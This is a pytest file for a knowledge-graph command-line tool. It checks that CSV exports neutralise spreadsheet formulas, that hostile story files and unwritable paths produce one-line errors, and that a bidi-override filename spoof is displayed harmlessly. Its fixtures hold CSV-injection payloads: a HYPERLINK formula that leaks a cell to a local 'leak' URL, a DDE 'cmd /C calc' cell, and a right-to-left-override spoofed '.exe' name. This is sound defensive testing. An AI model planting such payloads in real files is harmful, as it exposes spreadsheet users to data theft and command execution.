"""Hostile and careless input at the ``copkg`` command line: formula cells in every CSV copkg
writes, OS and input errors as one-line messages (exit 1), story limits, global options in
either position. Each case asserts the exit code, the message and that nothing was damaged."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import shutil
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from graph import KnowledgeGraph
from graph.cli import main
from graph.ingest import import_paths

TINY = Path(__file__).parent / "data" / "network" / "tiny"

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"click")'
CMD = "-2+3+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
PLUS = "+1+1"
HOSTILE = {"p1": HYPERLINK, "p2": PLUS, "p3": CMD, "p4": SUM}
SPOOF = "evil\u202etxt.exe"  # shows as "evilexe.txt" where the override is obeyed
SHOWN = "evil[U+202E]txt.exe"


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny network with formula-like names for its four people and an organisation."""
    folder = tmp_path_factory.mktemp("hostile") / "sheets"
    shutil.copytree(TINY, folder)
    people = pd.read_csv(folder / "people.csv", dtype=str, keep_default_na=False)
    people["name"] = people["id"].map(HOSTILE)
    people.to_csv(folder / "people.csv", index=False)
    orgs = pd.read_csv(folder / "organizations.csv", dtype=str, keep_default_na=False)
    orgs.loc[orgs["id"] == "o2", "name"] = "=1+1"
    orgs.loc[orgs["id"] == "o1", "name"] = SPOOF
    orgs.to_csv(folder / "organizations.csv", index=False)
    return folder


@pytest.fixture(scope="module")
def hostile_store(hostile_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile-store") / "store"
    kg = KnowledgeGraph.open(path)
    import_paths(kg, [hostile_dir])
    kg.close()
    return path


def _stored_names(store: Path) -> set[str]:
    with KnowledgeGraph.open(store, read_only=True) as kg:
        return set(kg.query("SELECT ?n WHERE { ?p a foaf:Person ; foaf:name ?n }")["n"])


# --------------------------------------------------------------------------- CSV formulas
def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@")), cell
        assert not (cell.startswith("-") and not _is_number(cell)), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_export_csv_neutralises_formulas_and_reimports_unchanged(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "sheets.zip"
    assert main(["export", "--store", str(hostile_store), "--format", "csv",
                 "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as archive:
        people = archive.read("people.csv").decode("utf-8")
        orgs = archive.read("organizations.csv").decode("utf-8")
    _assert_no_formula(_cells(people) + _cells(orgs))
    assert "'" + HYPERLINK.replace('"', '""') in people and "'" + CMD in people
    assert "'=1+1" in orgs
    # the store keeps the real values, and the export re-imports to the same names
    assert _stored_names(hostile_store) == set(HOSTILE.values())
    folder = tmp_path / "again"
    with zipfile.ZipFile(out) as archive:
        archive.extractall(folder)
    again = tmp_path / "store2"
    kg = KnowledgeGraph.open(again)
    import_paths(kg, [folder])
    kg.close()
    assert _stored_names(again) == set(HOSTILE.values())


def test_query_and_metrics_csv_neutralise_text_keep_numbers(
    hostile_store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "q.csv"
    rq = tmp_path / "names.rq"
    rq.write_text("SELECT ?name (-0.5 AS ?neg) (1 AS ?one) WHERE { ?p a foaf:Person ; "
                  "foaf:name ?name } ORDER BY ?name", encoding="utf-8")
    assert main(["query", "--store", str(hostile_store), str(rq), "--format", "csv",
                 "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    _assert_no_formula(_cells(text))
    df = pd.read_csv(out)
    assert df["neg"].dtype.kind == "f" and (df["neg"] == -0.5).all()
    assert df["one"].dtype.kind == "i"
    assert sorted(df["name"]) == sorted("'" + n for n in HOSTILE.values())

    metrics = tmp_path / "m.csv"
    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer):
        assert main(["metrics", "--store", str(hostile_store), "--format", "csv"]) == 0
    metrics.write_text(buffer.getvalue(), encoding="utf-8")
    _assert_no_formula(_cells(buffer.getvalue()))
    table = pd.read_csv(metrics)
    numeric = [c for c in table.columns if c in ("degree", "betweenness", "pagerank")]
    assert numeric and all(table[c].dtype.kind in "fi" for c in numeric)


def test_map_csv_neutralises_formulas(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "edges.csv"
    assert main(["map", "--store", str(hostile_store), "--projection", "people",
                 "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for spreadsheet programs
    text = raw.decode("utf-8-sig")
    _assert_no_formula(_cells(text))
    df = pd.read_csv(out, encoding="utf-8-sig")
    assert df["weight"].dtype.kind == "f"
    assert "'" + HYPERLINK in set(df["source_label"]) | set(df["target_label"])


# --------------------------------------------------------------------------- global options
@pytest.mark.parametrize("command", [
    ["stats"], ["query", "x.rq"], ["queries"], ["metrics"], ["serve"],
    ["map", "--projection", "people", "--out", "m.html"], ["story", "s.json", "--out", "s.html"],
    ["export", "--format", "ttl", "--out", "x.ttl"], ["import", "a.csv"], ["path", "a", "b"],
])
def test_global_options_before_or_after_the_command(command: list[str]) -> None:
    from graph.cli import build_parser

    parser = build_parser()
    for argv in (["--store", "/s", "--endpoint", "http://e/q", *command],
                 [*command, "--store", "/s", "--endpoint", "http://e/q"],
                 ["--store", "/s", *command, "--endpoint", "http://e/q"]):
        args = parser.parse_args(argv)
        assert str(args.store) == "/s" and args.endpoint == "http://e/q", argv
    args = parser.parse_args(command)
    assert not hasattr(args, "store") and not hasattr(args, "endpoint")


# --------------------------------------------------------------------------- one-line errors
def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv)
    err = capsys.readouterr().err
    return code, err


def _token(store: Path) -> str:
    with KnowledgeGraph.open(store, read_only=True) as kg:
        return kg.state_token()


STORIES = {
    "nested.json": ("[" * 100_000 + "]" * 100_000).encode(),
    "latin1.json": '{"title": "café", "steps": [{"projection": "people"}]}'.encode("latin-1"),
    "notes.json": b"hello, this is not JSON",
    "steps.json": json.dumps({"title": "long", "steps": [{"projection": "people"}] * 2000})
    .encode(),
    "huge.json": b'{"title": "' + b"x" * 1_100_000 + b'", "steps": []}',
}
MESSAGES = {
    "nested.json": "nested too deeply",
    "latin1.json": "not UTF-8 text (byte 15); save it as UTF-8",
    "notes.json": "a story is JSON, and this is not (line 1, column 1",
    "steps.json": "a story has at most 100 steps, this one has 2000",
    "huge.json": "larger than 1 MB",
}


@pytest.mark.parametrize("name", sorted(STORIES))
def test_hostile_story_files_get_one_line_about_stories(
    name: str, hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    story = tmp_path / name
    story.write_bytes(STORIES[name])
    before = _token(hostile_store)
    out = tmp_path / "story.html"
    started = time.monotonic()
    code, err = _run(["story", str(story), "--store", str(hostile_store), "--out", str(out)],
                     capsys)
    assert time.monotonic() - started < 10
    assert code == 1 and MESSAGES[name] in err, err
    assert err.startswith(f"copkg story: {name}") and err.count("\n") == 1, err
    assert "Traceback" not in err and "nothing was imported" not in err
    assert not out.exists() and _token(hostile_store) == before


@pytest.mark.parametrize("case", ["under-a-file", "name-too-long", "path-too-long",
                                  "a-folder", "read-only-fs"])
def test_map_out_that_cannot_be_written(
    case: str, hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "afile"
    blocker.write_text("keep me", encoding="utf-8")
    out, expected = {
        "under-a-file": (blocker / "map.html", "afile is a file, not a folder"),
        "name-too-long": (tmp_path / ("m" * 300 + ".html"), "longer than 255 bytes"),
        "path-too-long": (tmp_path.joinpath(*["d" * 200] * 25, "map.html"), "File name too long"),
        "a-folder": (tmp_path, "it is a folder"),
        "read-only-fs": (Path("/proc/copkg-map.html"), "copkg-map.html"),
    }[case]
    argv = ["map", "--projection", "people", "--store", str(hostile_store), "--out", str(out)]
    if case == "a-folder":
        argv += ["--format", "html"]
    code, err = _run(argv, capsys)
    assert code == 1 and expected in err, err
    assert err.startswith("copkg map: ") and err.count("\n") == 1 and "Traceback" not in err
    assert blocker.read_text(encoding="utf-8") == "keep me"


def test_other_commands_turn_file_errors_into_one_line(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "afile"
    blocker.write_text("x", encoding="utf-8")
    latin = tmp_path / "latin.rq"
    latin.write_bytes("SELECT ?x WHERE { ?x ?y \"é\" }".encode("latin-1"))
    store = ["--store", str(hostile_store)]
    for argv, expected in (
        (["export", "--format", "ttl", "--out", str(blocker / "x.ttl"), *store], "not a folder"),
        (["export", "--format", "csv", "--out", str(blocker), *store], "afile"),
        (["templates", "--out", str(blocker / "t"), *store], "not a folder"),
        (["query", str(latin), *store], "not UTF-8 text"),
        (["query", str(tmp_path / "missing.rq"), *store], "Cannot read"),
        (["query", "bridging_experts", "-o", str(blocker / "q.csv"), *store], "not a folder"),
        (["import", str(tmp_path / "nowhere.csv"), *store], "nowhere.csv"),
    ):
        code, err = _run(argv, capsys)
        assert code == 1 and expected in err, (argv, err)
        assert "Traceback" not in err, err


# --------------------------------------------------------------------------- bidi controls
def test_bidi_override_in_a_name_is_shown_not_obeyed(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["metrics", "--projection", "organizations", "--store",
                 str(hostile_store)]) == 0
    table = capsys.readouterr().out
    assert SHOWN in table and "\u202e" not in table
    out = tmp_path / "orgs.html"
    assert main(["map", "--projection", "organizations", "--store", str(hostile_store),
                 "--out", str(out)]) == 0
    page = out.read_text(encoding="utf-8")
    assert SHOWN in page
    assert "\u202e" not in page and "\\u202e" not in page.lower()
    with KnowledgeGraph.open(hostile_store, read_only=True) as kg:  # query results too
        names = set(kg.query("SELECT ?n WHERE { ?o a org:Organization ; skos:prefLabel ?n }")["n"])
    assert SHOWN in names
    ttl = tmp_path / "all.ttl"  # ... while the store keeps the name as imported
    assert main(["export", "--format", "ttl", "--out", str(ttl), "--store",
                 str(hostile_store)]) == 0
    assert SPOOF in ttl.read_text(encoding="utf-8")


def test_every_csv_goes_through_the_one_writer() -> None:
    """No module writes CSV by itself: graph.csv_writer is the one writer (the endpoint's W3C
    SPARQL CSV results, a machine format, are the one deliberate exception)."""
    root = Path(__file__).resolve().parents[1]
    allowed = {root / "graph" / "csv_writer.py", root / "graph" / "endpoint" / "worker.py"}
    offenders = []
    for path in [*root.glob("graph/**/*.py"), *root.glob("views/**/*.py"), root / "app.py"]:
        text = path.read_text(encoding="utf-8")
        if path not in allowed and any(w in text for w in (".to_csv(", "csv.writer(",
                                                             "csv.DictWriter(")):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
